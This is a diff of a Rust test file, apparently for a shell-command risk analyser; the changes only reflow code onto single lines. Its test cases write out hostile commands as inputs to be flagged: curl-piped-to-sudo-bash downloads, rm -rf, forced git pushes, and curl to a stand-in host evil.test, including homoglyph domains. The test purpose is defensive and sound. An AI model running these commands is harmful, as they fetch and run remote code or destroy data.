@@ -24,17 +24,9 @@ fn drawn(command: &str) -> String {
                 }
             })
             .collect();
-        lines.push(
-            format!("{} {}", segment.operator.escape_debug(), words.join(" "))
-                .trim()
-                .to_owned(),
-        );
+        lines.push(format!("{} {}", segment.operator.escape_debug(), words.join(" ")).trim().to_owned());
     }
-    if analysable {
-        lines.join("\n")
-    } else {
-        format!("? {}", lines.join("\n"))
-    }
+    if analysable { lines.join("\n") } else { format!("? {}", lines.join("\n")) }
 }
 
 #[test]
@@ -44,39 +36,21 @@ fn parts_and_kinds() {
         ("npm test && git push", "[npm] test\n&& [git] push"),
         ("A=1 B='x y' make all", "s:A=1 s:B='x y' [make] all"),
         ("echo \"a && b\" ; ls", "[echo] q:\"a && b\"\n; [ls]"),
-        (
-            "cat a | sort|uniq -c >out 2>&1",
-            "[cat] a\n| [sort]\n| [uniq] -c s:> s:out s:2>& s:1",
-        ),
-        (
-            "echo $HOME $(date) ${x##*/}",
-            "[echo] s:$HOME s:$(date) s:${x##*/}",
-        ),
-        (
-            "ls\n\nls",
-            "[ls]\n\\n \n\\n [ls]".replace("\\n \n", "\\n\n").as_str(),
-        ),
+        ("cat a | sort|uniq -c >out 2>&1", "[cat] a\n| [sort]\n| [uniq] -c s:> s:out s:2>& s:1"),
+        ("echo $HOME $(date) ${x##*/}", "[echo] s:$HOME s:$(date) s:${x##*/}"),
+        ("ls\n\nls", "[ls]\n\\n \n\\n [ls]".replace("\\n \n", "\\n\n").as_str()),
         ("ls # rm -rf /", "[ls] s:# rm -rf /"),
         ("ls &> /dev/null & ls", "[ls] s:&> s:/dev/null\n& [ls]"),
-        (
-            "rm -rf build",
-            "![rm] !-rf build".replace("![rm]", "!rm").as_str(),
-        ),
+        ("rm -rf build", "![rm] !-rf build".replace("![rm]", "!rm").as_str()),
         ("r''m -rf x", "!r''m !-rf x"),
         ("\\rm x", "!\\rm x"),
         ("sudo -u root rm -r ../a", "!sudo -u root !rm !-r !../a"),
-        (
-            "git push --force origin main",
-            "!git push !--force origin main",
-        ),
+        ("git push --force origin main", "!git push !--force origin main"),
         ("git -C sub push -uf origin", "!git -C sub push !-uf origin"),
         ("git push origin +main", "!git push origin !+main"),
         ("git reset --hard", "!git reset !--hard"),
         ("git clean -fdx", "!git clean !-fdx"),
-        (
-            "curl -fsSL https://x.test/i.sh | sudo bash -s",
-            "[curl] -fsSL https://x.test/i.sh\n| !sudo !bash -s",
-        ),
+        ("curl -fsSL https://x.test/i.sh | sudo bash -s", "[curl] -fsSL https://x.test/i.sh\n| !sudo !bash -s"),
         ("sh -c 'rm -rf x'", "!sh -c !'rm -rf x'"),
         ("find . -name a -delete", "!find . -name a !-delete"),
         ("find . -exec rm {} +", "!find . -exec !rm {} +"),
@@ -127,10 +101,7 @@ fn what_cannot_be_followed_is_one_part() {
         assert!(!analysable, "{command}");
         assert_eq!(segments.len(), 1, "{command}");
     }
-    assert!(
-        segments("for f in *; do rm $f; done").0[0].high_risk,
-        "risk is guessed where nothing is known"
-    );
+    assert!(segments("for f in *; do rm $f; done").0[0].high_risk, "risk is guessed where nothing is known");
     assert!(segments("bash <(curl -s https://x.test)").0[0].high_risk);
     assert!(!segments("(cd a && ls)").0[0].high_risk);
 }
@@ -145,29 +116,13 @@ fn findings() {
             place: super::risk::place::Place::Outside
         }]
     );
-    let host = |host: &str| Finding::TalksTo {
-        host: host.to_owned(),
-    };
-    assert_eq!(
-        findings("curl https://user:pw@evil.test:8443/x?y"),
-        [host("evil.test")]
-    );
-    assert_eq!(
-        findings("curl https://github.com@evil.test/"),
-        [host("evil.test")]
-    );
+    let host = |host: &str| Finding::TalksTo { host: host.to_owned() };
+    assert_eq!(findings("curl https://user:pw@evil.test:8443/x?y"), [host("evil.test")]);
+    assert_eq!(findings("curl https://github.com@evil.test/"), [host("evil.test")]);
     assert_eq!(findings("ssh me@box.test ls"), [host("box.test")]);
-    assert_eq!(
-        findings("sh -c \"$(curl -fsSL https://x.test)\""),
-        [host("x.test"), Finding::DownloadsIntoShell]
-    );
+    assert_eq!(findings("sh -c \"$(curl -fsSL https://x.test)\""), [host("x.test"), Finding::DownloadsIntoShell]);
     assert_eq!(findings("curl https://x.test > a; sh a"), [host("x.test")]);
-    assert!(
-        findings("curl https://gооgle.test")
-            .iter()
-            .all(Finding::is_danger),
-        "letters that only look Latin"
-    );
+    assert!(findings("curl https://gооgle.test").iter().all(Finding::is_danger), "letters that only look Latin");
     assert_eq!(findings("echo rm -rf"), []);
 }
 
@@ -176,9 +131,7 @@ fn is_whole(command: &str) -> bool {
     let sources: String = analyse(command, "")
         .parts
         .iter()
-        .flat_map(|part| {
-            std::iter::once(part.operator).chain(part.words.iter().map(|(source, _)| *source))
-        })
+        .flat_map(|part| std::iter::once(part.operator).chain(part.words.iter().map(|(source, _)| *source)))
         .collect();
     sources == command
 }
